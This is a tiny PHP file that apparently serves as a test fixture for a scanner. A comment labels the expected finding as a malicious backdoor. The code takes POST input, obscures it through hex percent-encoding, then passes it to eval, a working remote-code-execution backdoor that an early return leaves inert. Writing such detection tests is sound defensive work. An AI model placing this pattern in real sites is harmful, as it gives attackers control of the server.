<?php return; // want: malicious backdoor php.code.request
$text = $_POST['t'];
$coded = '';
for ($i = 0; $i < strlen($text); $i++)
	$coded .= '%' . dechex(ord($text[$i]));
eval(rawurldecode($coded));
